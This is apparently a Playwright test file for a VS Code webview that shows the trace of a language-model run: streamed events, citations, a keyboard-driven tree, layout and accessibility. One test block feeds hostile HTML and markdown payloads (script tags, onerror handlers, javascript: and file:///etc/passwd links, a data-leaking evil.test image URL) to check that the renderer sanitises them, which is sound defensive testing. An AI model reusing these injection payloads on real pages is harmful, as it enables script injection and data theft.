import { AxeBuilder } from "@axe-core/playwright";
import type { Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import type { RunEvent } from "../../src/rlm/events.ts";
import { fromTraceView } from "../../src/webview/trace/protocol.ts";
import { longRun, runWithAnswer, sampleAnswer, sampleQuestion, sampleRun } from "../support/sample-run.ts";
import type { TracePage } from "./page.ts";
import { type ThemeName, themes } from "./themes.ts";
import { tracePages } from "./trace-pages.ts";

const openPage = tracePages();

/** The panel after these events came as a snapshot. */
async function show(events: RunEvent[], theme?: ThemeName, width = 1400): Promise<TracePage> {
  const trace = await openPage(theme, { width, height: 900 });
  await trace.send({ type: "snapshot", events });
  return trace;
}

/** The rows' names from top to bottom, with their state where they are not simply done. */
function rowNames({ page }: TracePage): Promise<string[]> {
  return page.locator(".tree-row").evaluateAll((rows) =>
    rows.map((row) => {
      const words = [".label", ".visually-hidden"].map((part) => row.querySelector(part)?.textContent ?? "");
      return words.join(" ").trim();
    }),
  );
}

/** What all events have, for one that comes at place `seq`. */
function base(events: readonly RunEvent[], seq: number): Pick<RunEvent, "seq" | "at" | "runId" | "depth"> {
  return { seq, at: events[seq]?.at ?? 0, runId: "r1", depth: 0 };
}

function selectedRow({ page }: TracePage): Promise<string | null> {
  return page.locator(".tree-row[aria-selected=true] .label").textContent();
}

describe("a run that goes on", () => {
  it("shows events as they come", async () => {
    const events = sampleRun("running");
    const at = (type: RunEvent["type"]) => events.findIndex((event) => event.type === type);
    const trace = await show(events.slice(0, at("context.ready")));
    const { page, send } = trace;
    expect(await page.locator("h1").textContent()).toBe(sampleQuestion);
    expect(await page.getByRole("status").textContent()).toBe("Collecting files: 640");
    expect(await rowNames(trace)).toEqual(["Run running"]);

    await send({ type: "events", events: events.slice(at("context.ready"), at("reply.finished")) });
    expect(await page.getByRole("status").textContent()).toBe("Turn 1: the model is writing");
    expect(await page.locator(".details").textContent()).toContain("I will look for the retry code first.");
    expect(await page.locator(".details .caret").count()).toBe(1);

    await send({ type: "events", events: events.slice(at("reply.finished")) });
    expect(await page.getByRole("status").textContent()).toBe("Asking 12 sub-models: 7 done");
    expect(await rowNames(trace)).toEqual([
      ...["Run running", "Turn 1", "Cell 1", "Turn 2", "Cell 1 failed"],
      ...["Turn 3", "Cell 1 running", "Sub-call ×12 running"],
    ]);
    expect(await page.locator(".figures").textContent()).toMatch(
      /^3 turns · 12 sub-calls · 24\.6k tok · \$0\.024 of \$1\.00 · /,
    );
  });

  it("stops it", async () => {
    const { page, sent } = await show(sampleRun("running"));
    await page.getByRole("button", { name: "Stop" }).click();
    expect(sent).toContainEqual({ type: "stop" });
  });

  it("follows the newest row only while the user is at the end", async () => {
    const events = longRun(3_000);
    const { page, send } = await show(events.slice(0, 1_000));
    const scroller = page.locator(".tree-scroller");
    const left = () => scroller.evaluate((element) => element.scrollHeight - element.scrollTop - element.clientHeight);
    expect(await left()).toBeLessThan(24);
    await send({ type: "events", events: events.slice(1_000, 1_500) });
    expect(await left()).toBeLessThan(24);

    await page.locator(".tree").focus();
    await page.keyboard.press("Home");
    await send({ type: "events", events: events.slice(1_500, 2_000) });
    expect(await page.getByRole("row", { name: /^Run/ }).isVisible()).toBe(true);
    expect(await left()).toBeGreaterThan(1_000);
  });

  it("follows what the model writes, and then shows the answer from its beginning", async () => {
    const events = sampleRun("answered");
    const last = events.findLastIndex((event) => event.type === "turn.started");
    const { page, send } = await show(events.slice(0, last + 1));
    const text = Array.from({ length: 200 }, (_, line) => `Line ${line} of the reply.\n`).join("");
    await send({ type: "events", events: [{ ...base(events, last + 1), type: "reply.delta", turn: 4, text }] });
    expect(await page.locator(".details").evaluate((element) => element.scrollTop)).toBeGreaterThan(1_000);
    const rest = events.slice(last + 1).map((event) => ({ ...event, seq: event.seq + 1 }));
    await send({ type: "events", events: rest });
    expect(await page.locator(".details").evaluate((element) => element.scrollTop)).toBe(0);
    expect(await page.locator(".details .markdown").count()).toBe(1);
  });

  it("asks for a snapshot when events are missing, and takes it", async () => {
    const events = sampleRun("answered");
    const middle = events.findIndex((event) => event.type === "cell.started");
    const { page, sent, send } = await show(events.slice(0, middle));
    await send({ type: "events", events: events.slice(middle + 1) });
    await send({ type: "events", events: [] });
    expect(sent.filter((message) => message.type === "resync")).toHaveLength(1);
    await send({ type: "snapshot", events });
    expect(await page.getByRole("status").textContent()).toBe("Answered");
  });

  it("shows nothing of a message that is none", async () => {
    const { page, send } = await show(sampleRun("running"));
    await page.evaluate(`window.postMessage({ type: "events", events: [{ type: "run.finished", answer: 1 }] }, "*")`);
    await send({ type: "events", events: [] });
    expect(await page.getByRole("status").textContent()).toBe("Asking 12 sub-models: 7 done");
  });
});

describe("a run that is over", () => {
  it("shows the answer first, and remembers its run", async () => {
    const { page } = await show(sampleRun("answered"));
    const answer = page.locator(".details .markdown");
    expect(await answer.textContent()).toContain("capped at 8 s");
    expect(await answer.locator("table td.right").first().textContent()).toBe("0.5 s");
    expect(await page.getByRole("button", { name: "Stop" }).count()).toBe(0);
    expect(await page.evaluate("window.viewState.runId")).toBe("r1");
  });

  it.each([
    ["failed", "Failed: api.example.com refused the key (401). Set another with “RLM: Set API Key…”."],
    ["cancelled", "Cancelled"],
    ["turns", "Stopped at your limit of 20 turns: partial answer"],
  ] as const)("says how it ended: %s", async (end, words) => {
    const { page } = await show(sampleRun(end));
    expect(await page.getByRole("status").textContent()).toBe(words);
    expect(await page.locator(".details .markdown").count()).toBe(end === "turns" ? 1 : 0);
  });

  it("leads back to the answer from any row", async () => {
    const { page } = await show(sampleRun("answered"));
    await page.getByText("Turn 2").click();
    expect(await page.locator(".details .markdown").count()).toBe(0);
    await page.getByRole("button", { name: "Show answer" }).click();
    expect(await page.locator(".details .markdown").count()).toBe(1);
  });

  it("opens a citation's file at its lines", async () => {
    const { page, sent } = await show(sampleRun("answered"));
    await page.getByRole("button", { name: "retry.ts:41–52" }).click();
    await page.getByRole("button", { name: "retry.ts:58" }).click();
    expect(sent.filter((message) => message.type === "open")).toEqual([
      { type: "open", path: "src/net/retry.ts", from: 41, to: 52 },
      { type: "open", path: "src/net/retry.ts", from: 58, to: 58 },
    ]);
    expect(sent.every((message) => fromTraceView.safeParse(message).success)).toBe(true);
  });

  it("marks a citation that is not there with an icon and in words", async () => {
    const { page } = await show(sampleRun("answered"));
    const missing = page.getByRole("button", { name: "retries.md:7 not found" });
    expect(await missing.locator(".codicon-warning").count()).toBe(1);
    expect(await page.getByRole("button", { name: /not found/ }).count()).toBe(1);
    expect(await page.locator(".details").textContent()).toContain(
      "1 of 4 citations names a file or lines that are not there.",
    );
  });

  it("hands links and copies to the extension", async () => {
    const { page, sent } = await show(sampleRun("answered"));
    await page.getByRole("link", { name: "the RFC" }).click();
    await page.getByRole("link", { name: "the RFC" }).press("Enter");
    await page.getByRole("button", { name: "Copy answer" }).click();
    const url = "https://www.rfc-editor.org/rfc/rfc9110#field.retry-after";
    expect(sent.slice(1)).toEqual([
      { type: "openLink", url },
      { type: "openLink", url },
      { type: "copy", text: sampleAnswer },
    ]);
  });

  it("colours scripts and leaves their text as it is", async () => {
    const code = 'const wait = "5 s"; // <b>not bold</b>\nexport const tries = 3;\n';
    const { page } = await show(runWithAnswer(`\`\`\`ts\n${code}\`\`\`\n\n\`\`\`yaml\nconst: 1\n\`\`\``));
    const [script, other] = await page.locator(".details .markdown pre code").all();
    expect(await script?.textContent()).toBe(code);
    expect(await script?.locator("span").allTextContents()).toEqual([
      ...["const", '"5 s"', "// <b>not bold</b>", "export", "const", "3"],
    ]);
    expect(await other?.locator("span").count()).toBe(0);
  });

  it("finds a citation inside a code span, and none inside a code block", async () => {
    const { page } = await show(
      runWithAnswer("In `[a/b.ts:3]`.\n\n```\n[c.ts:4]\n```\n\n[d.ts:5]: https://x.test\n[d.ts:5]"),
    );
    expect(await page.locator("button.citation").allInnerTexts()).toEqual(["b.ts:3", "d.ts:5", "d.ts:5"]);
  });
});

describe("an answer that means harm", () => {
  it("does nothing, and no request leaves the page", async () => {
    const hostile = [
      "<script>window.harmed = 1</script><img src=x onerror='window.harmed = 2'><iframe src='https://evil.test/f'></iframe>",
      "![leak](https://evil.test/leak.png?q=secret) ![](data:image/svg+xml,<svg onload=alert(1)>)",
      "[click](javascript:window.harmed=3) [data](data:text/html,x) [file](file:///etc/passwd) [cmd](command:rm)",
      '[ok](https://evil.test/"onmouseover="window.harmed=4)',
      '["><img src=x onerror=window.harmed=5>:3]',
      "<style>@import 'https://evil.test/s.css';</style><a href='https://evil.test' onclick='window.harmed=6'>x</a>",
      "```js\n</code></pre><script>window.harmed = 7</script>\n```",
      "<form action=https://evil.test><button>go</button></form><details open ontoggle=window.harmed=8>",
    ].join("\n\n");
    const { page, sent } = await show(runWithAnswer(hostile));
    const answer = page.locator(".markdown");
    expect(await answer.locator("script, img, iframe, style, form, svg, details, [href], [src], [style]").count()).toBe(
      0,
    );
    for (const link of await answer.getByRole("link").all()) await link.click();
    for (const button of await answer.locator("button").all()) await button.click();
    expect(await page.evaluate("window.harmed")).toBeUndefined();
    expect(page.url()).toBe("https://webview.test/");
    expect(await answer.textContent()).toContain("[image: leak]");
    const urls = sent.flatMap((message) => (message.type === "openLink" ? [new URL(message.url).protocol] : []));
    expect(urls).toEqual(["https:"]);
    expect(sent.filter((message) => message.type === "open")).toHaveLength(1);
  });

  it("stays text where the model's replies, output and errors are shown", async () => {
    const events = sampleRun("answered").map((event) =>
      event.type === "cell.output" || event.type === "reply.finished"
        ? { ...event, text: "<img src=https://evil.test/x onerror=alert(1)>" }
        : event,
    );
    const { page } = await show(events);
    for (const row of ["Turn 1", "Cell 1"]) {
      await page.locator(".tree-row", { hasText: row }).first().click();
      expect(await page.locator(".details").textContent()).toContain("<img src=https://evil.test/x");
      expect(await page.locator(".details img").count()).toBe(0);
    }
  });
});

describe("the tree", () => {
  it("moves, folds and opens by keyboard as VS Code's own trees do", async () => {
    const trace = await show(sampleRun("answered"));
    const { page } = trace;
    const press = async (...keys: string[]) => {
      for (const key of keys) await page.keyboard.press(key);
      return selectedRow(trace);
    };
    await page.locator(".tree").focus();
    expect(await press("ArrowDown")).toBe("Turn 1");
    expect(await press("ArrowRight")).toBe("Cell 1");
    expect(await press("ArrowLeft")).toBe("Turn 1");
    await press("ArrowLeft");
    expect(await page.locator(".tree-row[aria-selected=true]").getAttribute("aria-expanded")).toBe("false");
    expect(await press("ArrowDown")).toBe("Turn 2");
    expect(await press("ArrowLeft", "ArrowLeft")).toBe("Run");
    expect(await press("End")).toBe("Turn 4");
    expect(await press("ArrowUp")).toBe("Sub-call ×12");
    expect(await press("ArrowRight", "ArrowRight")).toBe("Sub-call 1");
    expect(await page.locator(".tree-row", { hasText: "Sub-call" }).count()).toBe(13);
    expect(await page.locator(".tree").getAttribute("aria-activedescendant")).toBe("row-call-c1");
    expect(await press("Home")).toBe("Run");

    await press("Enter");
    expect(await page.locator(".details").evaluate((element) => element.matches(":focus"))).toBe(true);
    await press("Escape");
    expect(await page.locator(".tree").evaluate((element) => element.matches(":focus"))).toBe(true);
  });

  it("keeps a row selected when what holds it is folded away", async () => {
    const trace = await show(sampleRun("answered"));
    await trace.page.locator(".tree-row", { hasText: "ReferenceError" }).click();
    await trace.page.locator(".tree-row", { hasText: "Turn 2" }).locator(".twistie").click();
    expect(await selectedRow(trace)).toBe("Turn 2");
  });

  it("shows a cell's code, its error at its line, and its output", async () => {
    const { page } = await show(sampleRun("answered"));
    await page.locator(".tree-row", { hasText: "ReferenceError" }).click();
    const failed = page.locator(".code-line.failed");
    expect(await failed.textContent()).toContain("print(maxWait * 2);");
    expect(await failed.locator("+ .code-error").textContent()).toBe("ReferenceError: maxWait is not defined");
    expect(await page.locator(".details").textContent()).toContain("export async function retry(call");
  });

  it("folds a long output and shows all of it when asked", async () => {
    const { page } = await show(sampleRun("answered"));
    await page.locator(".tree-row", { hasText: "Cell 1" }).first().click();
    const output = page.locator(".long-text").first();
    expect(await output.textContent()).not.toContain("200 of 263 hits");
    await page.getByRole("button", { name: /^Show all 16\d lines$/ }).click();
    expect(await output.textContent()).toContain("200 of 263 hits");
  });

  it("shows a sub-call's prompt, reply and what it used", async () => {
    const { page } = await show(sampleRun("answered"));
    await page.locator(".tree-row", { hasText: "×12" }).click();
    await page.locator(".tree").press("ArrowRight");
    await page.locator(".tree").press("ArrowDown");
    const details = await page.locator(".details").textContent();
    expect(details).toContain("List every place that waits");
    expect(details).toContain("retry(), line 44");
    expect(details).toContain("1,520 tokens");
  });

  it("draws 10,000 events with few rows in the page", async () => {
    const events = longRun(10_000);
    const trace = await show(events.slice(0, 20));
    for (let from = 20; from < events.length; from += 2_000) {
      await trace.send({ type: "events", events: events.slice(from, from + 2_000) });
      expect(await trace.page.locator(".tree-row").count()).toBeLessThan(80);
    }
    expect(Number(await trace.page.locator(".tree").getAttribute("aria-rowcount"))).toBeGreaterThan(3_900);
    await trace.page.locator(".tree").focus();
    await trace.page.keyboard.press("End");
    expect(await selectedRow(trace)).toBe("Sub-call");
    expect(await trace.page.locator(".tree-row[aria-selected=true]").isVisible()).toBe(true);
    await trace.page.keyboard.press("Home");
    expect(await trace.page.locator(".tree-row[aria-selected=true]").isVisible()).toBe(true);
    expect(await trace.page.locator(".tree-row").count()).toBeLessThan(80);
  });
});

describe("at 560 pixels", () => {
  it("puts the details below the tree, and cuts nothing off", async () => {
    const { page } = await show(sampleRun("answered"), "light", 560);
    const [tree, details] = await Promise.all([".tree", ".details"].map((part) => page.locator(part).boundingBox()));
    expect(details?.y).toBeGreaterThanOrEqual((tree?.y ?? 0) + (tree?.height ?? 0));
    expect(details?.width).toBe(560);
    expect(await page.evaluate("document.documentElement.scrollWidth")).toBe(560);
  });
});

it.each(Object.keys(themes) as ThemeName[])("is accessible in the theme %s", async (theme) => {
  const events = sampleRun("answered");
  const middle = sampleRun("running").length;
  const { page, send } = await show(events.slice(0, middle), theme);
  expect(await graveViolations(page)).toEqual([]);
  await send({ type: "events", events: events.slice(middle) });
  expect(await graveViolations(page)).toEqual([]);
  await page.locator(".tree-row", { hasText: "ReferenceError" }).click();
  await page.locator(".tree").focus();
  expect(await graveViolations(page)).toEqual([]);
});

async function graveViolations(page: Page): Promise<unknown[]> {
  const { violations } = await new AxeBuilder({ page }).analyze();
  const grave = violations.filter(({ impact }) => impact === "serious" || impact === "critical");
  return grave.map(({ id, nodes }) => [id, nodes.map((node) => node.failureSummary)]);
}
